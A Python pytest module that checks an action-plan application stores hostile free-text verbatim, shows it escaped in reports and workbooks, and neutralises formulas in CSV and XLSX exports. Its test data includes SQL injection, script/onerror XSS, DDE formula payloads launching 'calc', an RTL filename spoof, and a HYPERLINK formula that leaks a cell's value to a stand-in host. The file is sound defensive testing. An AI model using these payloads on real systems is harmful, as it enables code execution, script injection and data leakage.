"""Hostile text: stored verbatim, shown escaped, neutralised in spreadsheets.

Officers paste text from anywhere. SQL fragments, HTML and script, formula
prefixes, right-to-left and zero-width characters and 100 KB strings go into
every free-text field; they must read back exactly as written (on each
backend), appear as text (never markup) in the report and the workbook, and
never run as formulas in an exported CSV or workbook.
"""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from bs4 import BeautifulSoup

from actionplan.report import sections as report_content
from actionplan.spreadsheets import export_file
from actionplan.store import Store
from actionplan.workbook import html as workbook_html
from actionplan.workbook.app import workbook_actions
from actionplan.workbook.selection import plain_rows as _plain_rows

from .results import record

TODAY = date(2025, 6, 30)
HOSTILE = {
    "sql": "Robert'); DROP TABLE actions;-- and \" OR 1=1 --",
    "html": '<script>alert("owned")</script><img src=x onerror="alert(1)"><b>bold</b>',
    "formula": '=HYPERLINK("http://example.invalid/?"&A1,"Click for details")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "rtl": "Review \u202egnp.exe\u202c of \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 text",
    "zero_width": "zero\u200bwidth\u200c\u200djoin\u2060\ufeffers",
    "huge": "Long note " + "\u00e9\u4e2d" * 50_000,
}
IDS = {name: f"H-{number}" for number, name in enumerate(HOSTILE, start=1)}
FORMULA_STARTS = ("=", "+", "-", "@")


def fill_hostile(store: Store) -> None:
    """Every free-text field of every record kind set to each hostile value."""
    for name, value in HOSTILE.items():
        key = IDS[name]
        store.add_source({"id": f"S{key}", "kind": "other", "title": value, "reference": value})
        store.add_recommendation(
            {"id": f"R{key}", "source_id": f"S{key}", "text": value, "theme": value}
        )
        store.add_action(
            {
                "id": key,
                "recommendation_id": f"R{key}",
                "title": value,
                "owner": value,
                "team": value,
                "description": value,
                "success_measure": value,
                "evidence": value,
                "due": "2024-09-30",
                "created_on": "2024-04-01",
            },
            by=value,
            today=TODAY,
        )
        store.record_update(
            {
                "action_id": key,
                "by": value,
                "as_of": "2024-05-01",
                "due": "2024-12-31",
                "reason": value,
                "note": value,
                "status": "off_track",
                "progress": 10,
            },
            today=TODAY,
        )
        store.add_complaint(
            {
                "id": f"C{key}",
                "stage": "stage1",
                "received_on": "2024-05-02",
                "theme": value,
                "learning": value,
                "action_ids": key,
            }
        )
        store.add_compliment(
            {"id": f"K{key}", "received_on": "2024-05-03", "team": value, "summary": value}
        )


@pytest.fixture
def hostile(store: Store) -> Store:
    fill_hostile(store)
    return store


def test_hostile_text_is_stored_verbatim(hostile: Store, backend: str) -> None:
    sources = hostile.table("sources").set_index("id")
    recommendations = hostile.table("recommendations").set_index("id")
    complaints = hostile.table("complaints").set_index("id")
    compliments = hostile.table("compliments").set_index("id")
    checked = 0
    for name, value in HOSTILE.items():
        key = IDS[name]
        action = hostile.get_action(key)
        for field in ("title", "owner", "team", "description", "success_measure", "evidence"):
            assert action[field] == value, (name, field)
        assert action["last_updated_by"] == value
        create, update = hostile.history(key)
        assert create["by"] == value and create["changes"]["title"]["new"] == value
        assert (update["by"], update["note"], update["reason"]) == (value, value, value)
        assert tuple(sources.loc[f"S{key}", ["title", "reference"]]) == (value, value)
        assert tuple(recommendations.loc[f"R{key}", ["text", "theme"]]) == (value, value)
        assert tuple(complaints.loc[f"C{key}", ["theme", "learning"]]) == (value, value)
        assert tuple(compliments.loc[f"K{key}", ["team", "summary"]]) == (value, value)
        checked += 6 + 1 + 2 + 3 + 2 + 2 + 2 + 2
    assert {"actions", "updates", "sources"} <= set(
        hostile.engine.dialect.get_table_names(hostile.engine.connect())
    )
    record(
        f"hostile-store-{backend}",
        check="hostile text stored verbatim (SQL, HTML/script, formulas, RTL, zero-width, 100 KB)",
        backend=backend,
        tried=f"{len(HOSTILE)} values x every free-text field ({checked} fields)",
        held="every field read back equal; tables intact",
    )


def _no_markup_from_data(html: str) -> BeautifulSoup:
    soup = BeautifulSoup(html, "html.parser")
    assert HOSTILE["html"] not in html
    assert not soup.find_all("script"), "a <script> element reached the page"
    assert not soup.find_all(attrs={"onerror": True})
    assert not [tag for tag in soup.find_all("b") if tag.get_text() == "bold"]
    return soup


@pytest.fixture
def sqlite_hostile(tmp_path: Path) -> Store:
    store = Store(tmp_path / "hostile.db")
    store.initialise()
    fill_hostile(store)
    return store


def test_report_shows_hostile_text_escaped(sqlite_hostile: Store) -> None:
    context = report_content.load("2024-25-Q1", str(sqlite_hostile.path))
    sections = [
        report_content.title,
        report_content.at_a_glance,
        report_content.rag_breakdown,
        report_content.movement,
        report_content.trend,
        report_content.exceptions,
        report_content.completed_and_due,
        report_content.complaints,
        report_content.appendix,
    ]
    html = "".join(section(context).html for section in sections)
    soup = _no_markup_from_data(html)
    text = soup.get_text()
    shown = [name for name, value in HOSTILE.items() if value[:2000] in text]
    assert "html" in shown, "the hostile title should be shown, as text"
    record(
        "hostile-report",
        check="hostile text in the report (every section, as rendered in the notebook)",
        backend="sqlite",
        tried=f"{len(HOSTILE)} values in every free-text field",
        held=f"no element or attribute from data; {len(shown)} values shown as text",
    )


def test_workbook_shows_hostile_text_escaped(sqlite_hostile: Store) -> None:
    rows = _plain_rows(workbook_actions(sqlite_hostile, TODAY))
    html = workbook_html.actions_table(rows) + "".join(workbook_html.list_row(row) for row in rows)
    for key in IDS.values():
        html += workbook_html.history_table(reversed(sqlite_hostile.history(key)))
    soup = _no_markup_from_data(html)
    assert HOSTILE["html"] in soup.get_text()
    assert HOSTILE["rtl"] in soup.get_text() and HOSTILE["zero_width"] in soup.get_text()
    record(
        "hostile-workbook",
        check="hostile text in the workbook's action list, tables and history",
        backend="sqlite",
        tried=f"{len(rows)} actions with hostile titles, owners and notes",
        held="no element or attribute from data; text shown as written",
    )


def test_exports_neutralise_formulas(sqlite_hostile: Store, tmp_path: Path) -> None:
    csv_path = export_file(sqlite_hostile, tmp_path / "actions.csv")
    with open(csv_path, newline="", encoding="utf-8-sig") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    dangerous = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert dangerous == [], dangerous[:3]
    for name in ("formula", "plus", "minus", "at"):
        assert "'" + HOSTILE[name] in cells, name

    xlsx_path = export_file(sqlite_hostile, tmp_path / "plan.xlsx")
    workbook = openpyxl.load_workbook(xlsx_path)
    formulas, texts = [], []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas.append(cell.coordinate)
                elif isinstance(cell.value, str):
                    texts.append(cell.value)
    assert formulas == []
    assert [text for text in texts if text.startswith(FORMULA_STARTS)] == []
    assert "'" + HOSTILE["formula"] in texts
    record(
        "hostile-export",
        check="hostile text in exports (CSV of actions, whole-plan .xlsx)",
        backend="sqlite",
        tried=f"{len(cells)} CSV cells and {len(texts)} workbook text cells",
        held="no formula cell; every value starting = + - @ prefixed with '",
    )
